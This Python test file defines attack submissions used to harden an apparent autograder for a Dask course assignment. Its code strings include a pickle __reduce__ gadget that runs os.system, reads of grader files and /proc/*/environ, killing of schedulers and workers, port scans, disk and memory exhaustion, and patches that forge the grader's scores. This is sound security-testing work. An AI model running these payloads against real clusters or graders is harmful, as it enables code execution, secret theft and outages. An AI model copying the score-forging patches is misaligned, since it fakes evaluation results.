"""K: Dask. A cluster of the student's own, and values that come out of it."""

from __future__ import annotations

from tests.attacks.kit import Attack, Submission, Win
from tests.attacks.scene import Seen, victim_of

_CLIENT = "from shardwork import lab\nclient = lab.dask_client()\n"
_GADGET = """\
class Gadget:
    def __reduce__(self):
        import os
        return os.system, ("touch @ESC_FILE@; mkdir -p /tmp/@MARK@gadget",)
"""
_HOLDS = "[0, 1, 2]"  # what the honest answer loads


def _dask(id_: str, title: str, wins: set[Win], answer: str = "", **more: object) -> Attack:
    """Return an attack on `graph_product`: `answer` is its cell, honest and wrong if empty."""
    answers = {"graph_product": answer} if answer else {}
    cells = {name: more.pop(name) for name in ("before", "after", "files") if name in more}
    submission = Submission(answers, **cells)  # type: ignore[arg-type]
    return Attack(id_, title, wins, submission, assignment="dask", budget_s=300, **more)  # type: ignore[arg-type]


def _neighbour(seen: Seen) -> list[tuple[Win, str]]:
    told = seen.told(victim_of(seen.attack, "next"))
    return [(Win.BATCH, f"the next submission met {told!r}")] if "met" in told else []


def _spilled(seen: Seen) -> list[tuple[Win, str]]:
    megabytes = [int(line[5:]) for line in seen.told().splitlines() if line.startswith("wrote")]
    bound = 1024  # scratch_mb, where the assignment does not say otherwise
    return [(Win.RES, f"wrote {n} MB") for n in megabytes if n > bound]


ATTACKS = [
    _dask(
        "K01", "computes an object whose pickle runs a program",
        {Win.ESC}, sample=True,
        answer=_GADGET + "import dask\n"
        "def graph_product(parts):\n    return dask.delayed(lambda _: Gadget())(parts)",
    ),
    _dask(
        "K01b", "computes bytes that are such a pickle, inside everything that can hold bytes",
        {Win.ESC},
        answer=_GADGET + "import dask, pickle, numpy as np\n"
        "calls = 0\n"
        "def graph_product(parts):\n"
        "    global calls\n    calls += 1\n    blob = pickle.dumps(Gadget())\n"
        "    values = [blob, [blob], {'value': blob}, np.frombuffer(blob, dtype='u1'), (blob, 1)]\n"
        "    return dask.delayed(lambda _: values[calls % len(values)])(parts)",
    ),
    _dask(
        "K01c", "computes an array of objects with such a pickle",
        {Win.ESC},
        answer=_GADGET + "import dask, numpy as np\n"
        "class Array(np.ndarray):\n"
        "    def __reduce__(self):\n        return Gadget().__reduce__()\n"
        "def graph_product(parts):\n"
        "    made = np.empty(3, dtype=object)\n    made[:] = [Gadget()] * 3\n"
        "    return dask.delayed(lambda _: made if len(parts) == 2 else np.ones(3).view(Array))"
        "(parts)",
    ),
    _dask(
        "K01d", "is an integer of a class with a pickle of its own, and equal to everything",
        {Win.ESC, Win.SCORE},
        answer=_GADGET + "import dask\n"
        "class Any(int):\n"
        "    __eq__ = lambda self, other: (found(other), True)[1]\n"
        "    __ne__ = lambda self, other: False\n    __hash__ = int.__hash__\n"
        "    __reduce__ = Gadget.__reduce__\n    __int__ = lambda self: self\n"
        "    __index__ = lambda self: self\n"
        "def graph_product(parts):\n    return dask.delayed(lambda _: Any(7))(parts)",
    ),
    _dask(
        "K02", "ends the scheduler from within, while the judge waits",
        {Win.STALL, Win.BATCH},
        answer="import dask, os\n" + _CLIENT + "def graph_product(parts):\n"
        "    client.run_on_scheduler(os._exit, 1)\n    return dask.delayed(sum)(parts)",
    ),
    _dask(
        "K02b", "shuts the cluster down, and asks it for a result in the judged task",
        {Win.STALL},
        answer="import dask\n" + _CLIENT + "def graph_product(parts):\n"
        "    client.shutdown()\n"
        "    return dask.delayed(lambda v: client.submit(sum, v).result())(parts)",
    ),
    _dask(
        "K02c", "kills the worker and the nanny that the judged task runs on",
        {Win.STALL, Win.BATCH},
        answer="import dask, os, signal\n" + _CLIENT + "def end():\n"
        "    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(-1, signal.SIGKILL)\n"
        "def graph_product(parts):\n"
        "    return dask.delayed(lambda v: client.submit(end, pure=False).result())(parts)",
    ),
    _dask(
        "K02d", "computes with a scheduler of its own that never ends",
        {Win.STALL},
        answer="import dask, threading\n"
        "class Never:\n"
        "    pass\n"
        "def graph_product(parts):\n"
        "    dask.config.set(scheduler=lambda *a, **k: threading.Event().wait())\n"
        "    return dask.delayed(lambda v: threading.Event().wait())(parts)",
    ),
    _dask(
        "K03", "gives the scheduler a plugin whose pickle reads the course",
        {Win.ESC, Win.PROOF},
        before=(
            _CLIENT + _GADGET + "from distributed import SchedulerPlugin\n"
            "class Reader(SchedulerPlugin):\n"
            "    def __reduce__(self):\n"
            "        return eval, (\"__import__('os').system('touch @ESC_FILE@') and None or "
            "__import__('distributed').SchedulerPlugin()\",)\n"
            "try:\n    client.register_plugin(Reader())\nexcept Exception as e:\n    print(e)\n"
            "def look(dask_scheduler=None):\n"
            "    import glob\n"
            "    paths = glob.glob('@COURSE@/graders/**', recursive=True)\n"
            "    return [open(p).read() for p in paths if p.endswith('.py')] + [open(p, 'rb')"
            ".read().decode('latin-1') for p in glob.glob('/proc/*/environ')]\n"
            "for where in (client.run_on_scheduler, client.run):\n"
            "    try:\n        found(where(look))\n    except Exception as e:\n        print(e)\n",
        ),
    ),
    _dask(
        "K03b", "sends the scheduler messages that are no pickles at all",
        {Win.STALL, Win.BATCH},
        before=(
            _CLIENT + "import socket\n"
            "host, port = client.scheduler.address.removeprefix('tcp://').split(':')\n"
            "huge = (1 << 62).to_bytes(8, 'little')\n"
            "for junk in (b'\\xff' * 8, huge * 4, b'\\x80\\x04.' * 999):\n"
            "    with socket.create_connection((host, int(port)), 2) as s:\n"
            "        s.sendall(junk)\n",
        ),
    ),
    _dask(
        "K04", "looks for schedulers, workers and dashboards on every port of the host",
        {Win.ESC},
        before=(
            "import asyncio, socket\n"
            "hosts = ['127.0.0.1', *@SINK_HOSTS@]\n"
            "ports = [8786, 8787, 8788, 8888, 7077, 4040, @SINK_PORT@]\n"
            "for host in hosts:\n    for port in ports:\n"
            "        try:\n"
            "            with socket.create_connection((host, port), 0.3) as s:\n"
            "                s.sendall(b'@MARK@ identity')\n"
            "        except OSError:\n            pass\n"
            "from distributed import Client\n"
            "for host in hosts[:2]:\n    try:\n"
            "        Client(f'tcp://{host}:@SINK_PORT@', timeout=1)\n"
            "    except Exception as e:\n        print(type(e))\n",
        ),
    ),
    _dask(
        "K04b", "leaves a scheduler where the next submission may find it",
        {Win.BATCH, Win.LEFT}, alone=True, detect=_neighbour,
        before=(
            "import subprocess, sys\n"
            "with open('/tmp/@MARK@scheduler.py', 'w') as file:\n"
            "    file.write('from distributed.cli.dask_scheduler import main; main()')\n"
            "subprocess.Popen([sys.executable, '/tmp/@MARK@scheduler.py', '--host', '127.0.0.1', "
            "'--port', '18786', '--no-dashboard'], start_new_session=True)\n"
            "import os, time\nos.makedirs(os.path.expanduser('~/.config/dask'), exist_ok=True)\n"
            "open(os.path.expanduser('~/.config/dask/x.yaml'), 'w').write('met: config')\n"
            "open('/dev/shm/@MARK@spill', 'w').write('met')\n"
            "listener = __import__('socket').create_server(('127.0.0.1', 18787))\n",
        ),
        victims={
            "next": Submission(before=(
                "import dask, glob, socket\n"
                "FOUND += [w for w in [dask.config.get('met', '')] if w and FOUND.append('met')]\n"
                "FOUND += ['met ' + p for p in glob.glob('/dev/shm/*spill')]\n"
                "for port in (18786, 18787):\n    try:\n"
                "        socket.create_connection(('127.0.0.1', port), 0.5)\n"
                "        FOUND.append(f'met {port}')\n    except OSError:\n        pass\n",
            )),
        },
    ),
    _dask(
        "K08", "lets its workers die again and again, so that the nannies restart them",
        {Win.STALL, Win.RES},
        answer="import dask, os\n" + _CLIENT + "def die(i):\n    os._exit(1)\n"
        "def graph_product(parts):\n"
        "    waiting = client.map(die, range(500), retries=1000)\n"
        "    return dask.delayed(lambda v: client.gather(waiting, errors='skip'))(parts)",
    ),
    _dask(
        "K08b", "spills until the disk is full (at most 2 GB)",
        {Win.RES}, detect=_spilled,
        before=(
            "import os, tempfile\nblock, wrote = os.urandom(1 << 20), 0\n"
            "home = os.path.expanduser('~')\n"
            "places = [tempfile.gettempdir(), '/dev/shm', home, '/var/tmp', '.']\n"
            "for i, place in enumerate(places):\n    try:\n"
            "        with open(f'{place}/@MARK@spill', 'wb', 0) as file:\n"
            "            for _ in range(2000 - wrote):\n"
            "                file.write(block)\n                wrote += 1\n"
            "    except OSError as e:\n        print(e)\n"
            "FOUND.append(f'wrote{wrote}')\n",
        ),
    ),
    _dask(
        "K08c", "makes the workers hold 4 GB between them",
        {Win.RES},
        before=(
            _CLIENT + "def hold(i):\n    return bytes(b'x' * (128 << 20))\n"
            "futures = client.map(hold, range(32), pure=False)\n"
            "from distributed import wait\n"
            "try:\n    wait(futures, timeout=15)\nexcept Exception as e:\n    print(type(e))\n",
        ),
    ),
    _dask(
        "K09", "replaces compute, optimize and Delayed before the probe uses them",
        {Win.SCORE},
        answer="import dask, dask.delayed as module, sys\n"
        "class Always(int):\n"
        "    def __eq__(self, other):\n        found(other)\n        return True\n"
        "    __hash__ = None\n"
        "dask.compute = lambda *a, **k: (Always(1),) * len(a)\n"
        "dask.optimize = lambda *a, **k: a\n"
        "from shardwork.probes import dask as probe\n"
        "probe.compute = lambda c: Always(1)\n"
        "from shardwork.probes import server\n"
        "server._QUESTIONS['dask.compute'] = lambda c: Always(1)\n"
        "def graph_product(parts):\n    return module.delayed(sum)(parts)",
    ),
    _dask(
        "K10", "computes a value without end, a deep one, and one of 10^7 items",
        {Win.RES, Win.STALL},
        answer="import dask, itertools\ncalls = 0\n"
        "def deep():\n    value = []\n    for _ in range(100_000):\n        value = [value]\n"
        "    return value\n"
        "def graph_product(parts):\n    global calls\n    calls += 1\n"
        "    make = [lambda v: [0] * 10**7, lambda v: deep(), lambda v: 'x' * 10**9][calls % 3]\n"
        "    return dask.delayed(make)(parts)",
    ),
    _dask(
        "K11", "calls the judge's instrument without end, from many threads",
        {Win.STALL, Win.RES},
        answer="import dask, threading\n"
        "def flood(part):\n"
        "    def run():\n        while True:\n            part.compute(scheduler='sync')\n"
        "    for _ in range(16):\n        threading.Thread(target=run, daemon=True).start()\n"
        "    run()\n"
        "def graph_product(parts):\n    return dask.delayed(lambda: flood(parts[0]))()",
    ),
    _dask(
        "K12", "counts its loads down: forged answers and numbers for the instrument",
        {Win.SCORE},
        answer="import dask\n"
        "def graph_product(parts):\n"
        "    import gc\n    from shardwork.probes.server import Server\n"
        "    server = next(o for o in gc.get_objects() if isinstance(o, Server))\n"
        "    real = server._invoke\n"
        "    server._invoke = lambda instrument, args, rank: 1\n"
        "    values = [p.compute(scheduler='sync') for p in parts]\n"
        "    server._invoke = real\n"
        "    return dask.delayed(lambda vs: sum(values))(parts)",
    ),
]  # fmt: skip
